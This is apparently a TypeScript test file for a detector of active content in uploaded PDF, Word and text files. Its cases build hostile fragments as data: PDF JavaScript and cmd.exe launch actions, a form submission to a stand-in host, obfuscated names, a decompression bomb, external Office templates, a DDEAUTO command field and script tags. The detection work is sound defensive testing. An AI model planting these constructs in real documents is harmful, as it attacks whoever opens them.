import { deflateSync } from 'node:zlib';
import { uploadExtensions } from '@/domain/hearing/upload';
import { docFile, docxParts, honestFiles, zipFile } from '@/testing/hearing-files';
import { hasActiveParts } from './active-parts';

test.each(uploadExtensions)('an honest %s has none', async (extension) => {
  expect(await hasActiveParts(extension, honestFiles[extension])).toBe(false);
});

const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.flatMap((object, index) => [
      Buffer.from(`${index + 1} 0 obj`),
      Buffer.from(object),
      Buffer.from('endobj\n'),
    ]),
    Buffer.from('startxref\n9\n%%EOF\n'),
  ]);

const streamOf = (dictionary: string, content: Buffer) =>
  Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>>stream\n`),
    content,
    Buffer.from('\nendstream '),
  ]);

const script = '<</S/JavaScript/JS(app.alert(1))>>';

describe('a PDF', () => {
  test.each([
    ['runs a script', pdf(script)],
    ['runs a script when it is opened', pdf(`<</Type/Catalog/OpenAction ${script}>>`)],
    ['opens with an action that stands elsewhere', pdf('<</Type/Catalog/OpenAction 7 0 R>>')],
    ['starts a program', pdf('<</S/Launch/F(cmd.exe)>>')],
    ['acts when a page is turned', pdf('<</Type/Page/AA<</O 5 0 R>>>>')],
    ['carries a file', pdf('<</Type/Filespec/EF<</F 5 0 R>>>>', '<</Type/EmbeddedFile>>')],
    ['carries a film with code', pdf('<</Subtype/RichMedia>>')],
    ['sends what was typed', pdf('<</S/SubmitForm/F(https://spy.example)>>')],
    ['writes a name by numbers', pdf('<</S/J#61vaScr#69pt/J#53(x)>>')],
    [
      'hides it in a stream of objects',
      pdf(streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(`5 0 ${script}`))),
    ],
    [
      'hides a short name there',
      pdf(
        streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync('5 0 <</AA 6 0 R>>')),
      ),
    ],
    [
      'hides it in one that says it is something else',
      pdf(streamOf('/N 1/First 4/Filter /FlateDecode', deflateSync(`5 0 ${script}`))),
    ],
    [
      'hides it in one that is not packed',
      pdf(streamOf('/Type/ObjStm/N 1/First 4', Buffer.from('5 0 <</AA 6 0 R>>'))),
    ],
    [
      'packs objects in a way nobody does',
      pdf(
        streamOf('/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('00')),
      ),
    ],
    [
      'keeps objects in a damaged stream',
      pdf(streamOf('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.from('damaged'))),
    ],
    ['is locked', pdf('<</Filter/Standard>>', '<</Encrypt 1 0 R>>')],
    [
      'is a bomb',
      pdf(streamOf('/Filter/FlateDecode', deflateSync(Buffer.alloc(140 * 1024 * 1024)))),
    ],
  ])('that %s is refused', async (_, file) => {
    expect(await hasActiveParts('pdf', file)).toBe(true);
  });

  test('that opens at its first page, with packed text and a large picture, is fine', async () => {
    const file = pdf(
      '<</Type/Catalog/OpenAction [3 0 R /FitH null]/AAPL:Keywords []>>',
      streamOf('/Filter/FlateDecode', deflateSync('BT (Right ear: 35 dB) Tj ET')),
      streamOf('/Subtype/Image/Filter/FlateDecode', deflateSync(Buffer.alloc(150 * 1024 * 1024))),
      streamOf(
        '/Subtype/Image/Filter/DCTDecode',
        Buffer.from('\xff\xd8/AA /JS \xff\xd9', 'latin1'),
      ),
    );
    expect(await hasActiveParts('pdf', file)).toBe(false);
  });
});

describe('an Office document', () => {
  const relation = (type: string, more: string) =>
    `<Relationships><Relationship Id="r1" Type="http://x/relationships/${type}" Target="https://spy.example/x" ${more}/></Relationships>`;

  test.each([
    [
      'a template from elsewhere',
      'word/_rels/settings.xml.rels',
      relation('attachedTemplate', 'TargetMode="External"'),
    ],
    [
      'a picture from elsewhere',
      'word/_rels/document.xml.rels',
      relation('image', "TargetMode = 'External'"),
    ],
    [
      'a word written by numbers',
      'word/_rels/document.xml.rels',
      relation('image', 'TargetMode="&#69;xternal"'),
    ],
    ['a packed file', 'word/embeddings/oleObject1.bin', 'x'],
    ['a control', 'word/activeX/activeX1.xml', '<x/>'],
    ['a page of the web', 'word/afchunk.html', '<x/>'],
    [
      'a field that starts a program',
      'word/header1.xml',
      '<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>',
    ],
    ['another alphabet', 'word/_rels/document.xml.rels', Buffer.from('\ufeff<x/>', 'utf16le')],
    ['entities of its own', 'word/x.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x/>'],
  ])('with %s is refused', async (_, name, content) => {
    expect(await hasActiveParts('docx', zipFile([...docxParts, { name, content }]))).toBe(true);
  });

  test('with a link to click and settings of a printer is fine', async () => {
    const file = zipFile([
      ...docxParts,
      {
        name: 'word/_rels/document.xml.rels',
        content: relation('hyperlink', 'TargetMode="External"'),
      },
      { name: 'xl/printerSettings/printerSettings1.bin', content: 'x' },
    ]);
    expect(await hasActiveParts('docx', file)).toBe(false);
  });

  test('of the old format with a packed file is refused', async () => {
    expect(await hasActiveParts('doc', docFile('WordDocument', '\x01Ole10Native'))).toBe(true);
  });
});

test.each([
  '<!DOCTYPE html><p>x</p>',
  '  \n<html><body>x</body></html>',
  'Right ear: 35 dB <script>alert(1)</script>',
  '<svg xmlns="http://www.w3.org/2000/svg"/>',
  '{\\rtf1 x}',
  '%PDF-1.7',
])('a text that is really something else is refused: %s', async (text) => {
  expect(await hasActiveParts('txt', Buffer.from(text))).toBe(true);
});
